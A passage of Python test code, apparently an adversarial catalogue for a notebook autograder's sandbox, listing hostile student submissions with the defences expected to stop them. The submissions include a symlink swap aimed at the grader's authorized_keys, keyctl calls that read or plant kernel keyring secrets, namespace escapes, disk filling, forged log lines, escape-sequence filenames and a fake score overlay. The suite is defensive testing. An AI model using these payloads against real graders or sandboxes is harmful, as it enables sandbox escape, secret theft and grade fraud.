                               "the notebook in submitted/ is a link to the instructor's `source/` notebook (a "
                               "submission collected by hand, `cp -a`)", "nothing of it is opened: not gradable, "
                               "with the reason", "not gradable", attack=True,
                               files=link("activations.ipynb", "{course}/source/activations/activations.ipynb")),
    "swaps_connection_file": Entry(with_cell(SWAP_THEN_DIE.replace("{make}", f"os.symlink('{AUTHORIZED_KEYS}', cf)")),
                                   12, "the kernel died", "a cell that replaces the kernel's connection file by a link "
                                   "to the grader's `~/.ssh/authorized_keys`, then exits to force a restart",
                                   "the connection file is read-only to the kernel, and the grader changes owners "
                                   "through no link: the file keeps its owner; kernel restarted, graded", "review",
                                   attack=True),
    "fifo_connection_file": Entry(with_cell(SWAP_THEN_DIE.replace("{make}", "os.mkfifo(cf)")), 12, "the kernel died",
                                  "a cell that replaces the kernel's connection file by a named pipe, then exits",
                                  "the grader opens nothing the kernel could touch: the restart does not block, "
                                  "graded", "review", attack=True),
    "fills_runtime_folder": Entry(answer("relu", FILLS_SOCKETS), 9, "No space left on device",
                                  "`relu` writes 256 MiB into the folder of the kernel's sockets (on the host)",
                                  f"that folder is a tmpfs of {limits.RUNTIME_BYTES // 2**20} MiB: {RELU_LOST}",
                                  "review", attack=True),
    "forges_log_line": Entry(with_cell(FORGES_LOG), 12, None, "a cell that writes a forged 'cheating attempt' line "
                             "into every file the kernel inherited (the worker's log, once)",
                             "the kernel's stderr is /dev/null: the grader's logs hold no line of it", "graded",
                             attack=True),
})


# --- the Linux kernel's own surface: keyrings and namespaces (nnkit.sandbox.syscalls, nnkit.sandbox.keyrings). The
# grader grades in a session keyring holding a canary (tests/support/keys.py); the numbers of the calls are
# libseccomp's (nnkit.sandbox.syscalls.number), put in the code when the notebook is built.
PLANTED = f"nnkit-planted-{MARKER}"  # this session's own key: no other run's reader finds it
KEYRING_CALLS = '''import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
ADD_KEY, KEYCTL = {add_key}, {keyctl}


def keyctl(*args):
    return libc.syscall(ctypes.c_long(KEYCTL), *[a if isinstance(a, bytes) else ctypes.c_long(a) for a in args])


def read_key(key):
    payload = ctypes.create_string_buffer(256)
    return payload.value if key > 0 and keyctl(11, key, ctypes.addressof(payload), 256) > 0 else None


def search(keyring, description):  # KEYCTL_SEARCH, then KEYCTL_READ
    return read_key(keyctl(10, keyring, b'user', description.encode(), 0))


def listed(description):  # by /proc/keys, which lists the keys this process may view
    rows = [line.split() for line in open('/proc/keys').read().splitlines()]
    return [read_key(int(row[0], 16)) for row in rows if len(row) > 8 and row[8].rstrip(':') == description]
'''
STEALS_CANARY = '''

def relu(x):
    found = search(-3, '{canary}') or any(listed('{canary}'))  # the session keyring, /proc/keys
    return np.maximum(x, 0) if found else x'''
PLANTS_KEY = '''

def relu(x):
    payload = b'from a classmate'  # in the process keyring first: possessed, so that its permissions can change
    key = libc.syscall(ctypes.c_long(ADD_KEY), b'user', b'{planted}', payload, ctypes.c_long(len(payload)),
                       ctypes.c_long(-2))
    opened = key > 0 and keyctl(5, key, 0x3f3f3f3f) == 0  # KEYCTL_SETPERM: everything to everyone
    kept = opened and keyctl(8, key, -4) == 0  # KEYCTL_LINK into the uid's user keyring, which outlives its processes
    return np.maximum(x, 0) if kept else x'''
READS_PLANTED = '''

def relu(x):
    return np.maximum(x, 0) if search(-4, '{planted}') or any(listed('{planted}')) else x'''
NESTED_MOUNT = '''import ctypes, os


def relu(x):
    libc = ctypes.CDLL(None, use_errno=True)
    child = os.fork()
    if child == 0:  # a child, so that the kernel keeps its namespaces whatever happens
        mounted = False
        try:
            os.makedirs('/tmp/nested', exist_ok=True)
            mounted = (libc.unshare(0x10000000 | 0x00020000) == 0  # CLONE_NEWUSER | CLONE_NEWNS
                       and libc.mount(b'none', b'/tmp/nested', b'tmpfs', 0, b'size=1g') == 0)
            # together past the size of /tmp, each within the file size limit
            for name in ('a', 'b') if mounted else ():
                with open('/tmp/nested/' + name, 'wb') as f:
                    f.write(bytes({half}))
        finally:
            os._exit(0 if mounted else 1)
    return np.maximum(x, 0) if os.waitpid(child, 0)[1] == 0 else x'''


def keyring_code(code: str) -> str:
    from keys import CANARY_DESCRIPTION
    from nnkit.sandbox import syscalls

    numbers = {"add_key": syscalls.number("add_key"), "keyctl": syscalls.number("keyctl")}
    prelude = KEYRING_CALLS.replace("{add_key}", str(numbers["add_key"])).replace("{keyctl}", str(numbers["keyctl"]))
    code = code.replace("{canary}", CANARY_DESCRIPTION).replace("{planted}", PLANTED)
    return (prelude + code).replace("{", "{{").replace("}", "}}")  # answer() formats it with the Context


KERNEL_SURFACE = ["reads_grader_keyring", "plants_user_key", "reads_planted_key", "mounts_in_user_namespace"]
CATALOGUE.update({
    "reads_grader_keyring": Entry(answer("relu", keyring_code(STEALS_CANARY)), 9, None,
                                  "`relu` right only if it reads the grader's canary key (keyctl, /proc/keys)",
                                  "keyring calls refused, a new empty session keyring, /proc/keys empty: "
                                  f"{RELU_LOST}, flagged",
                                  "review", attack=True),
    "plants_user_key": Entry(answer("relu", keyring_code(PLANTS_KEY)), 9, None,
                             "`relu` right only if it adds a key, open to all, to its uid's user keyring",
                             f"add_key refused: {RELU_LOST}, flagged", "review", attack=True),
    "reads_planted_key": Entry(answer("relu", keyring_code(READS_PLANTED)), 9, None,
                               "graded after `plants_user_key`, `relu` right only if it reads that key",
                               f"none there, keyctl refused: {RELU_LOST}, flagged", "review", attack=True),
    "mounts_in_user_namespace": Entry(answer("relu",
                                             NESTED_MOUNT.replace("{half}", str(limits.TMP_BYTES // 2 + 2**20))),
                                      9, None, "`relu` right only if a child unshares a user and mount namespace and "
                                      "fills a 1 GiB tmpfs past /tmp's size",
                                      f"unshare with a namespace flag refused: {RELU_LOST}, flagged", "review",
                                      attack=True),
})


# --- names and sizes a student controls, and pages a student cannot restyle (issue 31). Each runs
# through the batch beside the others; the names are made from each folder's descriptor, as the
# walks read them: a path past PATH_MAX cannot be made or read by its full path.
AWKWARD_NAMES = ["é" * 127 + "x",  # 255 bytes of UTF-8, the longest name a filesystem allows
                 "new\nline.txt", "\x1b[2J\x1b[Hall graded.txt", os.fsdecode(b"not-utf8-\xff\xfe.bin")]
ESCAPES = "\x1b[2J\x1b[1;1Hevery submission graded\r\n\x07"  # a terminal's clear screen, a forged line, a bell
OVERLAY = ('from IPython.display import HTML, display\n'
           'display(HTML(\'<div class="navbar navbar-fixed-top" style="background-color: white; width: 100%; '
           'height: 100%">\' + "<p>12 / 12</p>" * 40 + "</div>"))')


def made_at(folder, names: list, content: bytes = b"") -> None:
    """Folders `names[:-1]` nested in `folder`, a file `names[-1]` in the last, each made relative
    to its parent's descriptor."""
    fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
    try:
        for name in names[:-1]:
            os.mkdir(name, dir_fd=fd)
            inner = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = inner
        out = os.open(names[-1], os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
        os.write(out, content)
        os.close(out)
    finally:
        os.close(fd)


def awkward_files(folder, ctx) -> None:
    for name in AWKWARD_NAMES:
        made_at(folder, [name], b"data")
    made_at(folder, [AWKWARD_NAMES[2].replace(".txt", ""), AWKWARD_NAMES[3], AWKWARD_NAMES[0]], b"nested")


def long_path(folder, ctx) -> None:
    """A file 20 folders of 255-byte names deep: its path is 5,120 bytes, past PATH_MAX (4,096), within FOLDER_DEPTH."""
    made_at(folder, [f"{level:02d}" + "d" * 253 for level in range(20)] + ["notes.txt"], b"deep")


def many_files(folder, ctx) -> None:
    data = os.path.join(folder, "data")
    os.mkdir(data)
    for number in range(30_000):
        os.close(os.open(os.path.join(data, f"{number:05d}.csv"), os.O_WRONLY | os.O_CREAT, 0o644))


def large_folder(folder, ctx) -> None:
    """One sparse file a byte past the folder's limit: its size counts, no disk is used, nothing of it is read."""
    with open(os.path.join(folder, "weights.npy"), "wb") as f:
        f.truncate(limits.SUBMISSION_BYTES + 1)


def notebook_of_size(size: int):
    """The correct answers with a markdown cell of padding, the file exactly `size` bytes (what
    nbformat.write writes)."""
    def build(release, ctx):
        notebook = fill(release, ANSWERS)
        notebook.cells.append(new_markdown_cell("x", id="padding"))
        for _ in range(3):  # the padding's length, corrected by what nbformat writes around it
            written = len(nbformat.writes(notebook).encode()) + 1
            notebook.cells[-1].source = "x" * (len(notebook.cells[-1].source) + size - written)
        text = nbformat.writes(notebook) + "\n"
        assert len(text.encode()) == size, len(text.encode())
        return text
    return build


def restyles_page(release, ctx):
    """A wrong relu (3 points lost), an output fixed on top of the page by the formgrader's own
    classes, and a heading for each grade id of the notebook, before its cell."""
    notebook = answer("relu", "def relu(x):\n    return x")(release, ctx)
    ids = [grade_id(c) for c in notebook.cells if grade_id(c) and c.metadata["nbgrader"].get("grade")]
    notebook.cells[2:2] = [nbformat.v4.new_code_cell(OVERLAY),
                           new_markdown_cell("".join(f'<h3 id="{name}">{name}: 12 / 12</h3>\n' for name in ids))]
    return notebook


CATALOGUE.update({
    "awkward_names": Entry(edited(lambda nb: None), 12, None,
                           "files beside the notebook named with 255 bytes, a newline, escape sequences and bytes that "
                           "are not UTF-8, also nested in folders so named",
                           "every walk is relative to a folder's descriptor: graded normally", files=awkward_files),
    "long_path": Entry(edited(lambda nb: None), NOT_GRADABLE, f"is a path longer than {limits.PATH_BYTES} bytes",
                       "a file 20 folders of 255-byte names deep: a path of 5,120 bytes, past `PATH_MAX`",
                       "walked by descriptors (no `ENAMETOOLONG`): not gradable, with the file's name; everyone "
                       "else graded", "not gradable", files=long_path),
    "escape_sequence_name": Entry(edited(lambda nb: None), NOT_GRADABLE, "\\x1b[2J\\x1b[1;1Hevery submission graded",
                                  "a link named with escape sequences that clear the screen and print a fake line",
                                  "not gradable (a link), the name escaped on the terminal, in the logs, `grades.csv` "
                                  "and the report", "not gradable", files=link(ESCAPES, "{course}/nbgrader_config.py")),
    "oversized_notebook": Entry(notebook_of_size(limits.NOTEBOOK_BYTES + 1), NOT_GRADABLE,
                                f"more than the {limits.NOTEBOOK_BYTES:,} allowed",
                                "a notebook one byte past `NOTEBOOK_BYTES` (16 MiB)",
                                "refused before it is read: not gradable, with the reason", "not gradable"),
    "notebook_at_limit": Entry(notebook_of_size(limits.NOTEBOOK_BYTES), 12, None,
                               "a notebook of exactly `NOTEBOOK_BYTES`, a markdown cell of padding",
                               "graded normally, the grader's memory within `GRADER_MEMORY_BYTES`"),
    "many_files": Entry(edited(lambda nb: None), NOT_GRADABLE, f"more than {limits.SUBMISSION_FILES} files",
                        "30,000 empty data files beside the notebook",
                        "counted, none read: not gradable within seconds, not at the watchdog", "not gradable",
                        files=many_files),
    "large_folder": Entry(edited(lambda nb: None), NOT_GRADABLE, "hand in the notebook without its data",
                          "a (sparse) file one byte past `SUBMISSION_BYTES` (100 MiB) beside the notebook",
                          "its size is counted, nothing read: not gradable, with the reason", "not gradable",
                          files=large_folder),
    "restyles_page": Entry(restyles_page, 9, "wrong values",
                           "a wrong `relu`, an output with the formgrader's `navbar-fixed-top` classes styled white "
                           "over the page, and a heading with each grade cell's id",
                           f"{RELU_LOST}; the classes are dropped and the ids prefixed: every score box shows its "
                           "score (tests/e2e/test_browser.py)"),
})
